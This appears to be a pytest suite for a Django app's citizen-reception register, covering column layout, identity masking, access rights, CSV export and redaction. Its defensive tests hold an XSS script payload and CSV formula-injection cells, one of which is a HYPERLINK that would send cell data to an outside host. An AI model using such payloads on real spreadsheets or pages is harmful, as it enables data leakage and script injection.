"""The reception register: thirteen columns, who reads what, a file that no spreadsheet computes."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from casework.acts.people import PersonInput
from casework.acts.screening import Screen
from casework.models import AccessEntry
from casework.selectors.reception_register import COLUMNS, RegisterRow, register_rows, visits_of
from tests import cast
from tests.desks.morning import KA_BRUM, MORNING, comes, morning, sit, taken_in
from workflows.engine import perform
from workflows.tables import harmless

pytestmark = pytest.mark.usefixtures("province")

DAY = date(2026, 7, 6)


def rows(*, by: str = cast.RECEPTION, on: date = DAY, masked: bool = False) -> list[RegisterRow]:
    unit = cast.unit(cast.LAC_DUONG).pk
    return register_rows(
        list(visits_of(unit_id=unit, first=DAY, last=DAY)), actor=cast.acting(by, on=on), masked=masked
    )


def page(query: str = "", *, by: str = cast.RECEPTION, at: datetime = MORNING):
    with morning(at):
        return sit(by).get(f"/desk/reception/register/{query}")


def test_the_register_has_the_thirteen_columns_of_the_form():
    assert len(COLUMNS) == 13
    comes(
        "guided", person=PersonInput(name="Rơ Ông Ha Tin"), guided_to="Sở Xây dựng", document_number="07/HD"
    )
    (row,) = rows()
    assert row.cells() == (
        "1",
        "06/07/2026",
        "Rơ Ông Ha Tin",
        "",
        "",
        "",
        "1",
        "",
        "",
        "Sở Xây dựng (07/HD)",
        "",
        "Guided",
        "Liêng Jrang K'Nhung",
    )


def test_a_visit_that_opened_a_case_shows_its_matter_and_where_it_stands():
    case = taken_in()
    on = DAY + timedelta(days=1)
    at = MORNING + timedelta(days=1)
    screen = Screen(kind="complaint_first", field="land_housing", verdict="own")
    perform(case.pk, screen, actor=cast.acting(cast.RECEPTION, on=on), at=at)
    (row,) = rows()
    assert (row.content, row.kind, row.is_own) == ("Kiểm đếm thiếu cây cà phê", "First complaint", True)
    assert (row.identity, row.code) == ("••••••••1001", case.tracking_code)
    assert row.result == str(type(case).objects.get(pk=case.pk).get_state_display())


def test_a_refusal_names_its_article_and_its_notice():
    comes("refused", ground="TCD.NO.h", document_number="12/TB-UBND", is_repeat=True)
    (row,) = rows()
    assert row.remarks == "came again; Đ4 k1 đ.h (12/TB-UBND); Liêng Jrang K'Nhung"


def test_who_received_stands_there_when_it_was_the_head():
    comes("answered", receiver_kind="head", receiver=cast.officer(cast.CHAIRMAN).pk)
    assert rows()[0].remarks == f"Reception by the head: {cast.officer(cast.CHAIRMAN).name}"


def test_the_reader_of_the_day_sees_names_the_colleague_initials():
    taken_in()
    assert rows()[0].person == "Ka Brum, Thôn Liêng Bông"
    # The screening officer of the unit reads identities by the matrix; the head of another part does not.
    assert rows(masked=True)[0].person == "K. Brum"


def test_whoever_may_not_see_a_case_reads_a_line_without_matter_or_link():
    taken_in(kind="denunciation")
    (row,) = rows(by=cast.LAND_OFFICER)
    assert (row.person, row.content, row.kind, row.code) == ("–", "", "", "")


def test_a_sealed_case_is_named_to_nobody():
    taken_in(kind="denunciation")
    (row,) = rows()
    assert (row.person, row.content, row.kind, row.identity) == ("Kept secret (Luật TC Đ56)", "", "", "")


def test_who_comes_again_is_known_from_his_case():
    case = taken_in()
    comes("answered", case=case.pk, summary="Hỏi kết quả", at=MORNING + timedelta(hours=1))
    assert [row.person for row in rows()] == ["Ka Brum, Thôn Liêng Bông"] * 2


def test_the_page_shows_today_unless_it_is_asked_for_a_period():
    comes("answered", summary="Hôm nay", person=KA_BRUM)
    comes("answered", summary="Hôm kia", person=KA_BRUM, at=MORNING - timedelta(days=3))
    today, both = page().content.decode(), page("?first=01/07/2026&last=06/07/2026").content.decode()
    assert ("Hôm nay" in today, "Hôm kia" in today) == (True, False)
    assert ("Hôm nay" in both, "Hôm kia" in both) == (True, True)


def test_05_07_is_the_fifth_of_july():
    comes("answered", summary="Ngày năm tháng bảy", at=MORNING - timedelta(days=1))
    assert "Ngày năm tháng bảy" in page("?first=05/07/2026&last=05/07/2026").content.decode()


@pytest.mark.parametrize(
    "query",
    ["?first=06/07/2026&last=05/07/2026", "?first=01/01/2020&last=06/07/2026", "?first=x&last=31/02/2026"],
)
def test_a_period_that_is_none_is_named(query):
    answer = page(query)
    assert answer.status_code == 422
    assert 'role="alert"' in answer.content.decode()


def test_what_visitors_said_is_shown_inert():
    comes("answered", summary="<script>alert(1)</script>")
    shown = page().content.decode()
    assert "<script>alert(1)" not in shown
    assert "&lt;script&gt;alert(1)" in shown


@pytest.mark.parametrize("who", [cast.LAND_OFFICER, cast.OFFICE_CLERK])
def test_who_keeps_no_register_reads_none(who):
    assert page(by=who).status_code == 404


def test_the_leader_of_the_unit_reads_it_too():
    comes("answered", summary="Hỏi thủ tục")
    assert "Hỏi thủ tục" in page(by=cast.CHAIRMAN).content.decode()


def test_another_unit_has_its_own():
    comes("answered", summary="Hỏi thủ tục")
    assert "Hỏi thủ tục" not in page(by=cast.DI_LINH_DESK).content.decode()


def test_the_file_holds_the_same_rows_masked_and_its_taking_is_written_down():
    taken_in()
    with morning():
        answer = sit(cast.RECEPTION).get("/desk/reception/register.csv?first=06/07/2026&last=06/07/2026")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "so-tiep-cong-dan-20260706-20260706.csv" in answer.headers["Content-Disposition"]
    text = answer.content.decode()
    assert text.startswith("\ufeff")
    head, row = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert len(head) == 13
    assert row[:5] == ["1", "06/07/2026", "K. Brum", "••••••••1001", "Kiểm đếm thiếu cây cà phê"]
    entry = AccessEntry.objects.get(verb="export_register")
    assert (entry.actor_id, entry.case_id) == (cast.officer(cast.RECEPTION).pk, None)


def test_the_file_tells_no_number_that_somebody_wrote_into_a_text():
    """Row 42: another person's number within free text stays in the register and out of the file."""
    comes("answered", summary="Hỏi về ông Bảy, CCCD 079085001234, máy 0912 345 678")
    assert rows()[0].content == "Hỏi về ông Bảy, CCCD 079085001234, máy 0912 345 678"
    with morning():
        answer = sit(cast.RECEPTION).get("/desk/reception/register.csv?first=06/07/2026&last=06/07/2026")
    text = answer.content.decode()
    assert "Hỏi về ông Bảy, CCCD ***, máy ***" in text
    assert "079085001234" not in text


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://x?"&A1)', '\'=HYPERLINK("http://x?"&A1)'),
        ("+cmd", "'+cmd"),
        ("@SUM(1)", "'@SUM(1)"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("–", "–"),
        ("Nguyễn Văn Hòa", "Nguyễn Văn Hòa"),
        ("", ""),
    ],
)
def test_no_cell_is_a_formula(cell, safe):
    assert harmless(cell) == safe


def test_a_longer_register_sends_no_more_statements():
    actor = cast.acting(cast.RECEPTION, on=DAY)

    def statements() -> int:
        with CaptureQueriesContext(connection) as captured:
            visits = list(visits_of(unit_id=cast.unit(cast.LAC_DUONG).pk, first=DAY, last=DAY))
            register_rows(visits, actor=actor)
        return len(captured)

    taken_in()
    few = statements()
    for n in range(2, 8):
        taken_in(n=n)
    assert statements() == few
    assert few <= 10
